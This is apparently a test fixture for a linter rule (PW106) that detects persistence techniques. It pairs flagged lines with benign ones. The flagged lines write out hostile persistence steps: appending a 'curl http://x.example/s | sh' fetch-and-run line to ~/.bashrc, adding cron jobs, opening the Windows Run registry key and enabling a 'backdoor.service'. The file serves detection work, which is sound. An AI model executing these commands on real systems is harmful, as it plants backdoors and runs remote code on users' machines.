import os
import subprocess
import winreg

with open(os.path.expanduser("~/.bashrc"), "a") as f:  # want: PW106
    f.write("curl http://x.example/s | sh\n")
subprocess.run('(crontab -l; echo "* * * * * /tmp/.x") | crontab -', shell=True)  # want: PW106
open("/etc/cron.d/updater", "w").write(job)  # want: PW106
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)  # want: PW106
os.system("systemctl enable backdoor.service")  # want: PW106

print(open(os.path.expanduser("~/.bashrc")).read())
subprocess.run(["crontab", "-l"])
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run")
DOC = "persistence: append to ~/.bashrc or (crontab -l; echo job) | crontab -"
# with open(os.path.expanduser("~/.bashrc"), "a") as f: f.write(x)
